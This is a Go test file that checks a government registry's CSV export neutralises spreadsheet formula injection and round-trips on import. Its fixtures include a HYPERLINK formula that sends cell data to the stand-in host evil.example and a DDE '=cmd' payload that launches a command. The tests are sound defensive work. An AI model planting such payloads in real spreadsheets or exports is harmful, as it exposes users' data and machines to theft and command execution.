package transfer_test

import (
	"bytes"
	"encoding/csv"
	"path/filepath"
	"strings"
	"testing"

	"github.com/vnregistry/registry/internal/registry"
	"github.com/vnregistry/registry/internal/storetest"
	"github.com/vnregistry/registry/internal/transfer"
)

// formulaStarts are the first characters that make a spreadsheet read a
// cell as a formula.
const formulaStarts = "=+-@\t\r"

// hostileRecords hold text a spreadsheet would run, in every kind of text
// cell the registry accepts.
func hostileRecords(t *testing.T) []any {
	t.Helper()
	a := agency(agencyA, `=HYPERLINK("http://evil.example/?"&A1,"Sở Tư pháp")`, registry.LevelProvincial, "")
	a.Abbreviation = "=1+1"
	b := agency(agencyB, "-2+3 UBND huyện Cam Lâm", registry.LevelDistrict, agencyA)
	b.Abbreviation = "-5" // text that looks like a number stays text
	c := agency("000.00.08.H56", "'=already quoted", registry.LevelDistrict, agencyA)
	c.Abbreviation = "@cmd"
	p := procedure(procP, agencyA)
	p.Field, p.Name = "@SUM(1+1)", "+84 258 3822 000"
	return []any{a, b, c, p, directive("468/QĐ-TTg", "2021-03-27", `=cmd|' /C calc'!A0`)}
}

// csvCells writes recs as the CSV export of their kind and reads the cells back.
func csvCells(t *testing.T, recs ...any) (string, [][]string) {
	t.Helper()
	var buf bytes.Buffer
	w, err := transfer.NewWriter(&buf, transfer.CSV, transfer.KindOf(recs[0]))
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range recs {
		if err := w.Write(r); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(bytes.NewReader(buf.Bytes())).ReadAll()
	if err != nil {
		t.Fatalf("export is not CSV: %v\n%s", err, buf.String())
	}
	return buf.String(), rows
}

// TestCSVExportNeutralisesFormulas: no cell of a CSV export starts with a
// formula character, whatever the records hold (control characters
// included, though validation keeps them out of the store); each such text
// cell is the value behind one apostrophe.
func TestCSVExportNeutralisesFormulas(t *testing.T) {
	recs := hostileRecords(t)
	tab := agency("000.00.09.H56", "UBND", registry.LevelDistrict, agencyA)
	tab.Name, tab.Abbreviation = "\tx", "\r=1+1"
	byKind := map[transfer.Kind][]any{}
	for _, r := range append(recs, tab) {
		byKind[transfer.KindOf(r)] = append(byKind[transfer.KindOf(r)], r)
	}
	for k, recs := range byKind {
		text, rows := csvCells(t, recs...)
		bad := false
		for i, row := range rows {
			for j, cell := range row {
				if cell != "" && strings.ContainsRune(formulaStarts, rune(cell[0])) {
					t.Errorf("%s row %d column %s: %q starts a formula", k.Plural(), i+1, rows[0][j], cell)
					bad = true
				}
			}
		}
		if bad {
			t.Logf("the %s export:\n%s", k.Plural(), text)
		}
	}
	_, rows := csvCells(t, byKind[transfer.Agency]...)
	for i, want := range []struct{ name, abbreviation string }{
		{`'=HYPERLINK("http://evil.example/?"&A1,"Sở Tư pháp")`, "'=1+1"},
		{"'-2+3 UBND huyện Cam Lâm", "'-5"},
		{"''=already quoted", "'@cmd"},
		{"'\tx", "'\r=1+1"},
	} {
		if got := rows[i+1]; got[1] != want.name || got[2] != want.abbreviation {
			t.Errorf("agency %d: name %q, abbreviation %q; want %q, %q", i+1, got[1], got[2], want.name, want.abbreviation)
		}
	}
}

// TestCSVExportRoundTripsFormulas: the CSV export of hostile text imports
// back to the same records: the importer removes the apostrophe the
// exporter put in front.
func TestCSVExportRoundTripsFormulas(t *testing.T) {
	a := storetest.Open(t)
	dir := t.TempDir()
	var lines []string
	for _, r := range hostileRecords(t) {
		lines = append(lines, line(t, r))
	}
	mustImport(t, a, writeFile(t, filepath.Join(dir, "hostile.ndjson"), strings.Join(lines, "\n")+"\n"))
	want := export(t, a, transfer.NDJSON)
	exp := export(t, a, transfer.CSV)
	var files []string
	for _, k := range transfer.Kinds { // in load order: agencies before their procedures
		files = append(files, writeFile(t, filepath.Join(dir, k.Plural()+".csv"), string(exp[k])))
	}
	b := storetest.Open(t)
	mustImport(t, b, files...)
	sameExport(t, "NDJSON export of the imported CSV export", export(t, b, transfer.NDJSON), want)
	if n := counts(want); n[transfer.Agency] != 3 || n[transfer.Procedure] != 1 || n[transfer.Directive] != 1 {
		t.Errorf("stored %v, want every hostile record", n)
	}
}
